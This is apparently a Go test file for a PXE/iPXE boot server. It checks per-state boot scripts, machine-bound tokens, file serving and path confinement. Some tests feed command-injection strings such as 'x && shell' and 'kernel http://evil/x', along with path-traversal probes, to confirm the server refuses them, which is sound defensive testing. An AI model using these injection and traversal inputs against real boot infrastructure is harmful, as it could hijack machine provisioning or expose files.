package pxe

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"slate/inventory"
	"slate/lifecycle"
)

// fakePlanner answers from a table, as lifecycle/ would from the inventory.
type fakePlanner struct {
	mu    sync.Mutex
	plans map[string]Plan
	err   error
}

func (f *fakePlanner) BootPlan(ctx context.Context, mac string) (Plan, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.err != nil {
		return Plan{}, f.err
	}
	p, ok := f.plans[mac]
	if !ok {
		return Plan{}, fmt.Errorf("mac %s: %w", mac, ErrUnknownMachine)
	}
	return p, nil
}

func (f *fakePlanner) set(mac string, p Plan) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.plans[mac] = p
}

// storeTokens adapts the inventory store to TokenIssuer as appliance/ does (pxe cannot
// import appliance): inventory's refusals become pxe's errors.
type storeTokens struct {
	store        *inventory.Store
	requireLease bool
}

func (b storeTokens) IssueBootToken(ctx context.Context, machineID, mac string, src netip.Addr, ttl time.Duration) (string, error) {
	tok, err := b.store.IssueBootToken(ctx, inventory.BootTokenRequest{MachineID: machineID, MAC: mac, Source: src,
		TTL: ttl, Activation: 10 * time.Minute, RequireLease: b.requireLease})
	var lm *inventory.LeaseMismatchError
	switch {
	case errors.Is(err, inventory.ErrNoBootExpected):
		return "", fmt.Errorf("%w: %v", ErrNoBootExpected, err)
	case errors.As(err, &lm):
		return "", fmt.Errorf("%w: %v", ErrSourceNotLeased, err)
	}
	return tok, err
}

type httpEnv struct {
	srv     *httptest.Server
	store   *inventory.Store
	planner *fakePlanner
	log     *logBuf
	data    string
	now     *time.Time
}

func newHTTPEnv(t *testing.T, withDeployEnv bool) *httpEnv {
	t.Helper()
	ctx := context.Background()
	dir := t.TempDir()
	now := time.Date(2026, 11, 28, 0, 0, 0, 0, time.UTC)
	env := &httpEnv{planner: &fakePlanner{plans: map[string]Plan{}}, data: filepath.Join(dir, "data"), now: &now}
	var err error
	env.store, err = inventory.Open(ctx, filepath.Join(dir, "slate.db"), inventory.Options{Now: func() time.Time { return *env.now }, Synchronous: "OFF"})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { env.store.Close() })
	if withDeployEnv {
		os.MkdirAll(filepath.Join(env.data, "deployenv"), 0o755)
		writeFile(t, filepath.Join(env.data, "deployenv", "vmlinuz"), bytes.Repeat([]byte("K"), 100000))
		writeFile(t, filepath.Join(env.data, "deployenv", "initrd.gz"), bytes.Repeat([]byte("I"), 50000))
	}
	log, lb := newLog()
	env.log = lb
	h, err := NewHTTP(Config{DataDir: env.data, PublicURL: "http://10.99.0.1:8080"}, env.planner, storeTokens{store: env.store}, log, WithIPXE(ipxeFS(t)))
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/boot/", h)
	env.srv = httptest.NewServer(mux)
	t.Cleanup(env.srv.Close)
	return env
}

func (e *httpEnv) machine(t *testing.T, mac, state string) string {
	t.Helper()
	var id string
	err := e.store.Update(context.Background(), func(tx *inventory.Tx) error {
		m, err := tx.CreateMachine(context.Background(), inventory.NewMachine{MACs: []string{mac}, State: state})
		id = m.ID
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return id
}

// expect announces the machine's boot as a technician does (the API's expect-boot).
func (e *httpEnv) expect(t *testing.T, id string) {
	t.Helper()
	if _, err := lifecycle.New(e.store, nil).ExpectBoot(context.Background(), "technician", id); err != nil {
		t.Fatalf("expect the boot of %s: %v", id, err)
	}
}

// tokenOwner checks a token from the script as the agent API does, from loopback (where the
// test's fetch came from).
func (e *httpEnv) tokenOwner(tok string) (string, error) {
	at, err := e.store.AuthenticateAgentToken(context.Background(), tok, netip.MustParseAddr("127.0.0.1"))
	return at.MachineID, err
}

func (e *httpEnv) get(t *testing.T, path string, hdr ...string) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest("GET", e.srv.URL+path, nil)
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

var tokenRE = regexp.MustCompile(`slate\.token=(\S+)`)

// TestMachineScriptsForEveryStateAndFirmware renders the script of a machine in each
// lifecycle state, as lifecycle.PlanBoot decides it over a real inventory, for BIOS and UEFI.
func TestMachineScriptsForEveryStateAndFirmware(t *testing.T) {
	env := newHTTPEnv(t, true)
	log, _ := newLog()
	h, err := NewHTTP(Config{DataDir: env.data, PublicURL: "http://10.99.0.1:8080"}, lifecyclePlanner{machines: env.store}, storeTokens{store: env.store}, log, WithIPXE(ipxeFS(t)))
	if err != nil {
		t.Fatal(err)
	}
	fakeSrv := env.srv
	srv := httptest.NewServer(h)
	defer srv.Close()
	env.srv = srv
	seen := map[Action]bool{}
	for i, st := range lifecycle.States() {
		mac := fmt.Sprintf("52:54:00:aa:00:%02x", i)
		id := env.machine(t, mac, st)
		plan, err := (lifecyclePlanner{machines: env.store}).BootPlan(context.Background(), mac)
		if err != nil {
			t.Fatal(err)
		}
		act := plan.Action
		seen[act] = true
		for _, fw := range []struct{ platform, name string }{{"pcbios", FirmwareBIOS}, {"efi", FirmwareUEFI}} {
			t.Run(st+"/"+fw.name, func(t *testing.T) {
				if act == ActionDeploy {
					env.expect(t, id)
				}
				resp, s := env.get(t, "/boot/machine/"+mac+".ipxe?platform="+fw.platform+"&buildarch=x86_64")
				if resp.StatusCode != 200 || !strings.HasPrefix(s, "#!ipxe\n") {
					t.Fatalf("status %d, script:\n%s", resp.StatusCode, s)
				}
				if resp.Header.Get("Cache-Control") != "no-store" {
					t.Errorf("script is cacheable: %q", resp.Header.Get("Cache-Control"))
				}
				if strings.Contains(s, "<no value>") {
					t.Fatalf("script has template gaps:\n%s", s)
				}
				if !strings.Contains(s, "machine "+id+" ("+mac+") is "+st+": "+string(act)+" ("+fw.name+")") {
					t.Fatalf("script does not name the machine, state, action and firmware:\n%s", s)
				}
				if plan.Message != "" && !strings.Contains(s, "echo Slate: "+consoleText(plan.Message)+"\n") {
					t.Fatalf("script does not show lifecycle's message %q:\n%s", plan.Message, s)
				}
				checkActionScript(t, env, s, act, fw.name, id)
			})
		}
	}
	// Actions no state leads to today still get their template tested, through a plan.
	for i, a := range []Action{ActionDeploy, ActionLocalDisk, ActionPowerOff, ActionNone} {
		if seen[a] {
			continue
		}
		env.srv = fakeSrv
		mac := fmt.Sprintf("52:54:00:bb:00:%02x", i)
		id := env.machine(t, mac, lifecycle.Ready)
		env.planner.set(mac, Plan{MachineID: id, State: lifecycle.Ready, Action: a, Message: "m"})
		for _, fw := range []struct{ platform, name string }{{"pcbios", FirmwareBIOS}, {"efi", FirmwareUEFI}} {
			t.Run("action-"+string(a)+"/"+fw.name, func(t *testing.T) {
				if a == ActionDeploy {
					env.expect(t, id)
				}
				_, s := env.get(t, "/boot/machine/"+mac+".ipxe?platform="+fw.platform)
				checkActionScript(t, env, s, a, fw.name, id)
			})
		}
	}
}

// checkActionScript asserts what each action's script must do, for one firmware.
func checkActionScript(t *testing.T, env *httpEnv, s string, act Action, fw, id string) {
	t.Helper()
	switch act {
	case ActionDeploy:
		m := tokenRE.FindStringSubmatch(s)
		if m == nil {
			t.Fatalf("deploy script carries no token:\n%s", s)
		}
		owner, err := env.tokenOwner(m[1])
		if err != nil || owner != id {
			t.Fatalf("token in the script belongs to %q (%v), want %s", owner, err, id)
		}
		for _, want := range []string{
			"kernel http://10.99.0.1:8080/boot/deploy/vmlinuz initrd=initrd.gz slate.url=http://10.99.0.1:8080 slate.token=" + m[1] + " slate.machine=" + id + " console=ttyS0 || goto failed\n",
			"initrd http://10.99.0.1:8080/boot/deploy/initrd.gz || goto failed\n",
			"boot || goto failed\n",
		} {
			if !strings.Contains(s, want) {
				t.Fatalf("deploy script lacks %q:\n%s", want, s)
			}
		}
	case ActionLocalDisk:
		if fw == FirmwareBIOS && !strings.Contains(s, "\nsanboot --no-describe --drive 0x80 || goto failed\n") {
			t.Fatalf("BIOS local boot lacks sanboot:\n%s", s)
		}
		if fw == FirmwareUEFI && (strings.Contains(s, "sanboot") || !strings.HasSuffix(s, "\nexit\n")) {
			t.Fatalf("UEFI local boot must exit to the firmware's boot order:\n%s", s)
		}
	case ActionPowerOff:
		if !strings.Contains(s, "\npoweroff || goto halt\n") || !strings.Contains(s, "power machine "+id+" off with its BMC") {
			t.Fatalf("poweroff script:\n%s", s)
		}
	case ActionNone:
		if !strings.HasSuffix(s, "\nexit\n") || strings.Contains(s, "kernel ") {
			t.Fatalf("no-action script must only explain and exit:\n%s", s)
		}
	}
	if act != ActionDeploy && strings.Contains(s, "slate.token") {
		t.Fatalf("a %s script carries a token:\n%s", act, s)
	}
}

// TestMessagesCannotInjectCommands feeds hostile text through a plan's message.
func TestMessagesCannotInjectCommands(t *testing.T) {
	env := newHTTPEnv(t, true)
	mac := "52:54:00:aa:01:01"
	id := env.machine(t, mac, lifecycle.Retired)
	env.planner.set(mac, Plan{MachineID: id, State: lifecycle.Retired, Action: ActionPowerOff,
		Message: "retired ${evil} && shell\nkernel http://evil/x # || chain"})
	_, s := env.get(t, "/boot/machine/"+mac+".ipxe?platform=efi")
	if strings.Contains(s, "${evil}") || strings.Contains(s, "&& shell") || strings.Contains(s, "\nkernel") || strings.Contains(s, "|| chain") {
		t.Fatalf("message text changed the script:\n%s", s)
	}
	if !strings.Contains(s, "echo Slate: retired  {evil}    shell kernel http://evil/x      chain\n") {
		t.Fatalf("message not shown flattened:\n%s", s)
	}
}

func TestTokensAreBoundToTheirMachine(t *testing.T) {
	env := newHTTPEnv(t, true)
	macA, macB := "52:54:00:00:00:0a", "52:54:00:00:00:0b"
	idA := env.machine(t, macA, lifecycle.Provisioning)
	idB := env.machine(t, macB, lifecycle.Provisioning)
	env.planner.set(macA, Plan{MachineID: idA, State: lifecycle.Provisioning, Action: ActionDeploy, Task: "install"})
	env.planner.set(macB, Plan{MachineID: idB, State: lifecycle.Provisioning, Action: ActionDeploy, Task: "install"})
	env.expect(t, idA)
	env.expect(t, idB)

	_, sA := env.get(t, "/boot/machine/"+macA+".ipxe?platform=efi")
	_, sB := env.get(t, "/boot/machine/"+strings.ToUpper(strings.ReplaceAll(macB, ":", "-"))+".ipxe?platform=efi")
	tokA, tokB := tokenRE.FindStringSubmatch(sA)[1], tokenRE.FindStringSubmatch(sB)[1]
	if tokA == tokB || strings.Contains(sA, tokB) || strings.Contains(sB, tokA) {
		t.Fatalf("scripts share tokens:\nA:\n%s\nB:\n%s", sA, sB)
	}
	if strings.Contains(sA, idB) || strings.Contains(sB, idA) {
		t.Fatal("a script names the other machine")
	}
	for tok, want := range map[string]string{tokA: idA, tokB: idB} {
		if got, err := env.tokenOwner(tok); err != nil || got != want {
			t.Fatalf("token bound to %q (%v), want %s", got, err, want)
		}
	}
	// Each boot gets a fresh token.
	env.expect(t, idA)
	_, sA2 := env.get(t, "/boot/machine/"+macA+".ipxe?platform=efi")
	if tokenRE.FindStringSubmatch(sA2)[1] == tokA {
		t.Fatal("a second boot got the same token")
	}
	// Tokens expire (default TTL 2h).
	*env.now = env.now.Add(2*time.Hour + time.Minute)
	if _, err := env.tokenOwner(tokA); !errors.Is(err, inventory.ErrNotFound) {
		t.Fatalf("token still valid after its TTL: %v", err)
	}
	// The log names machine and MAC, never the token.
	if strings.Contains(env.log.String(), tokA) {
		t.Fatal("the log contains an agent token")
	}
	if env.log.waitFind("http transfer", map[string]any{"mac": macA, "machine": idA, "action": "deploy", "task": "install"}) == nil {
		t.Fatalf("no script log line with mac/machine/task:\n%s", env.log)
	}
}

func TestAutoScriptUnknownAndBadRequests(t *testing.T) {
	env := newHTTPEnv(t, true)
	resp, s := env.get(t, "/boot/auto.ipxe")
	if resp.StatusCode != 200 || !strings.Contains(s, "chain --autofree http://10.99.0.1:8080/boot/machine/${netX/mac}.ipxe?platform=${platform}&buildarch=${buildarch} || goto retry") {
		t.Fatalf("auto.ipxe (%d):\n%s", resp.StatusCode, s)
	}
	resp, s = env.get(t, "/boot/machine/52:54:00:99:99:99.ipxe")
	if resp.StatusCode != 200 || !strings.Contains(s, "does not know the machine with MAC 52:54:00:99:99:99") || !strings.HasSuffix(s, "\nexit\n") {
		t.Fatalf("unknown machine (%d):\n%s", resp.StatusCode, s)
	}
	if resp, _ := env.get(t, "/boot/machine/not-a-mac.ipxe"); resp.StatusCode != 400 {
		t.Fatalf("bad MAC: status %d", resp.StatusCode)
	}
	env.planner.err = errors.New("database locked")
	if resp, _ := env.get(t, "/boot/machine/52:54:00:99:99:99.ipxe"); resp.StatusCode != 503 {
		t.Fatalf("planner failure: status %d, want 503 (iPXE retries)", resp.StatusCode)
	}
	env.planner.err = nil
	// A value that would change the script's meaning is refused, not printed.
	id := env.machine(t, "52:54:00:99:99:98", lifecycle.Provisioning)
	env.planner.set("52:54:00:99:99:98", Plan{MachineID: id, State: "provisioning", Action: ActionDeploy, Task: "x && shell"})
	if resp, s := env.get(t, "/boot/machine/52:54:00:99:99:98.ipxe"); resp.StatusCode != 500 || strings.Contains(s, "shell") {
		t.Fatalf("unsafe task: status %d:\n%s", resp.StatusCode, s)
	}
	r, _ := http.Post(env.srv.URL+"/boot/auto.ipxe", "text/plain", strings.NewReader("x"))
	if r.StatusCode != 405 {
		t.Fatalf("POST: status %d", r.StatusCode)
	}
}

func TestDeployEnvMissing(t *testing.T) {
	env := newHTTPEnv(t, false)
	mac := "52:54:00:00:00:0c"
	id := env.machine(t, mac, lifecycle.Inspecting)
	env.planner.set(mac, Plan{MachineID: id, State: lifecycle.Inspecting, Action: ActionDeploy, Task: "inspect"})
	resp, s := env.get(t, "/boot/machine/"+mac+".ipxe?platform=pcbios")
	if resp.StatusCode != 200 || !strings.Contains(s, "echo Slate: the deploy environment is missing") || !strings.Contains(s, "run make deploy-env") ||
		strings.Contains(s, "slate.token") || strings.Contains(s, "kernel ") {
		t.Fatalf("script without a deploy environment (%d):\n%s", resp.StatusCode, s)
	}
	resp, s = env.get(t, "/boot/deploy/vmlinuz")
	if resp.StatusCode != 404 || !strings.Contains(s, "make deploy-env") {
		t.Fatalf("vmlinuz without a deploy environment (%d): %s", resp.StatusCode, s)
	}
}

func TestFilesRangeConditionalAndConfinement(t *testing.T) {
	env := newHTTPEnv(t, true)
	art := filepath.Join(env.data, "artifacts")
	os.MkdirAll(filepath.Join(art, "rel-1"), 0o755)
	payload := bytes.Repeat([]byte("0123456789"), 10000)
	writeFile(t, filepath.Join(art, "rel-1", "root.img"), payload)
	writeFile(t, filepath.Join(env.data, "secret"), []byte("secret"))
	os.Symlink(filepath.Join(env.data, "secret"), filepath.Join(art, "escape"))

	// iPXE binaries, with Range and ETag.
	resp, body := env.get(t, "/boot/ipxe/snponly.efi")
	if resp.StatusCode != 200 || body != string(readAsset(t, "snponly.efi")) {
		t.Fatalf("snponly.efi: %d, %d bytes", resp.StatusCode, len(body))
	}
	if r, _ := env.get(t, "/boot/ipxe/snponly.efi", "If-None-Match", resp.Header.Get("ETag")); r.StatusCode != 304 {
		t.Fatalf("If-None-Match: %d", r.StatusCode)
	}
	if r, b := env.get(t, "/boot/ipxe/ipxe.efi", "Range", "bytes=10-19"); r.StatusCode != 206 || b != string(readAsset(t, "ipxe.efi")[10:20]) {
		t.Fatalf("Range on ipxe.efi: %d %q", r.StatusCode, b)
	}
	if r, b := env.get(t, "/boot/ipxe/ipxe-arm64.efi"); r.StatusCode != 404 || !strings.Contains(b, "make assets") {
		t.Fatalf("missing arm64 build: %d %q", r.StatusCode, b)
	}
	// Artifacts and the deploy environment: Range, conditional, confinement.
	resp, body = env.get(t, "/boot/artifacts/rel-1/root.img")
	if resp.StatusCode != 200 || body != string(payload) || resp.Header.Get("Accept-Ranges") != "bytes" {
		t.Fatalf("artifact: %d, %d bytes", resp.StatusCode, len(body))
	}
	if r, b := env.get(t, "/boot/artifacts/rel-1/root.img", "Range", "bytes=99990-"); r.StatusCode != 206 || b != string(payload[99990:]) {
		t.Fatalf("Range: %d %q", r.StatusCode, b)
	}
	if r, _ := env.get(t, "/boot/artifacts/rel-1/root.img", "If-Modified-Since", resp.Header.Get("Last-Modified")); r.StatusCode != 304 {
		t.Fatalf("If-Modified-Since: %d", r.StatusCode)
	}
	if r, _ := env.get(t, "/boot/artifacts/rel-1/root.img", "If-None-Match", resp.Header.Get("ETag")); r.StatusCode != 304 {
		t.Fatalf("If-None-Match: %d", r.StatusCode)
	}
	if r, b := env.get(t, "/boot/deploy/initrd.gz"); r.StatusCode != 200 || len(b) != 50000 {
		t.Fatalf("initrd.gz: %d %d", r.StatusCode, len(b))
	}
	for path, code := range map[string]int{
		"/boot/artifacts/../secret":      404, // net/http cleans it to /secret: not under /boot/
		"/boot/artifacts/%2e%2e/secret":  400,
		"/boot/artifacts/escape":         404,
		"/boot/artifacts/rel-1":          404,
		"/boot/artifacts/rel-1/":         400,
		"/boot/artifacts/a%5cb":          400,
		"/boot/deploy/../../data/secret": 404,
		"/boot/nothing":                  404,
	} {
		req, _ := http.NewRequest("GET", env.srv.URL+path, nil)
		req.URL.RawPath, req.URL.Path = "", ""
		req.URL.Opaque = path // sent as written, not cleaned by the client
		r, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(r.Body)
		r.Body.Close()
		if strings.Contains(string(b), "secret") && !strings.Contains(path, "secret") || string(b) == "secret" {
			t.Fatalf("%s leaked the file outside the served folder", path)
		}
		if r.StatusCode != code && !(r.StatusCode == 301 && code == 404) {
			t.Errorf("%s: status %d, want %d (%s)", path, r.StatusCode, code, b)
		}
	}
	// Every request left one log line.
	if env.log.waitFind("http transfer", map[string]any{"path": "/boot/artifacts/rel-1/root.img", "status": float64(200), "bytes": float64(len(payload))}) == nil {
		t.Fatalf("no transfer log line with path, status, bytes:\n%s", env.log)
	}
}

// sendfileRecorder is a ResponseWriter that implements io.ReaderFrom like net/http's own and
// records what it was handed: net/http turns an *os.File source (alone or in a LimitedReader)
// into sendfile(2).
type sendfileRecorder struct {
	*httptest.ResponseRecorder
	srcs []string
}

func (s *sendfileRecorder) ReadFrom(src io.Reader) (int64, error) {
	kind := fmt.Sprintf("%T", src)
	if lr, ok := src.(*io.LimitedReader); ok {
		kind += fmt.Sprintf("(%T)", lr.R)
	}
	s.srcs = append(s.srcs, kind)
	return io.Copy(s.ResponseRecorder, src)
}

func TestLargeFilesReachSendfile(t *testing.T) {
	env := newHTTPEnv(t, true)
	log, lb := newLog()
	h, err := NewHTTP(Config{DataDir: env.data, PublicURL: "http://x"}, env.planner, storeTokens{store: env.store}, log, WithIPXE(ipxeFS(t)))
	if err != nil {
		t.Fatal(err)
	}
	for _, hdr := range []string{"", "bytes=5-"} {
		rec := &sendfileRecorder{ResponseRecorder: httptest.NewRecorder()}
		req := httptest.NewRequest("GET", "/boot/deploy/vmlinuz", nil)
		if hdr != "" {
			req.Header.Set("Range", hdr)
		}
		h.ServeHTTP(rec, req)
		if rec.Code/100 != 2 || len(rec.srcs) != 1 || rec.srcs[0] != "*io.LimitedReader(*os.File)" {
			t.Fatalf("Range %q: status %d, ReadFrom got %v; want one *os.File copy (sendfile)", hdr, rec.Code, rec.srcs)
		}
	}
	// A writer without ReadFrom (echo's Response) still works, and the lost sendfile is logged.
	rec := httptest.NewRecorder()
	h.ServeHTTP(struct{ http.ResponseWriter }{rec}, httptest.NewRequest("GET", "/boot/deploy/vmlinuz", nil))
	if rec.Code != 200 || rec.Body.Len() != 100000 {
		t.Fatalf("plain writer: %d %d", rec.Code, rec.Body.Len())
	}
	if !strings.Contains(lb.String(), "instead of sendfile") {
		t.Fatalf("no warning about the lost sendfile:\n%s", lb)
	}
}

type countingTokens struct {
	TokenIssuer
	n int
}

func (c *countingTokens) IssueBootToken(ctx context.Context, machineID, mac string, src netip.Addr, ttl time.Duration) (string, error) {
	c.n++
	return c.TokenIssuer.IssueBootToken(ctx, machineID, mac, src, ttl)
}

func TestDeployEnvDirOverrideAndHeadSpendsNoToken(t *testing.T) {
	env := newHTTPEnv(t, false)
	dir := filepath.Join(t.TempDir(), "assets-deployenv")
	os.MkdirAll(dir, 0o755)
	writeFile(t, filepath.Join(dir, DeployKernel), []byte("kernel"))
	writeFile(t, filepath.Join(dir, DeployInitrd), []byte("initrd"))
	log, _ := newLog()
	tokens := &countingTokens{TokenIssuer: storeTokens{store: env.store}}
	h, err := NewHTTP(Config{DeployEnv: dir, PublicURL: "http://10.99.0.1:8080"}, env.planner, tokens, log, WithIPXE(ipxeFS(t)))
	if err != nil {
		t.Fatal(err)
	}
	env.srv.Config.Handler = h
	if r, b := env.get(t, "/boot/deploy/vmlinuz"); r.StatusCode != 200 || b != "kernel" {
		t.Fatalf("vmlinuz from deploy_env_dir: %d %q", r.StatusCode, b)
	}
	mac := "52:54:00:00:00:0d"
	id := env.machine(t, mac, lifecycle.Provisioning)
	env.planner.set(mac, Plan{MachineID: id, State: lifecycle.Provisioning, Action: ActionDeploy})
	env.expect(t, id)
	resp, err := http.Head(env.srv.URL + "/boot/machine/" + mac + ".ipxe")
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("HEAD: %v %v", resp, err)
	}
	if tokens.n != 0 {
		t.Fatalf("a HEAD issued %d tokens", tokens.n)
	}
	if _, s := env.get(t, "/boot/machine/"+mac+".ipxe"); !strings.Contains(s, "slate.token=") || tokens.n != 1 {
		t.Fatalf("GET issued %d tokens:\n%s", tokens.n, s)
	}
}
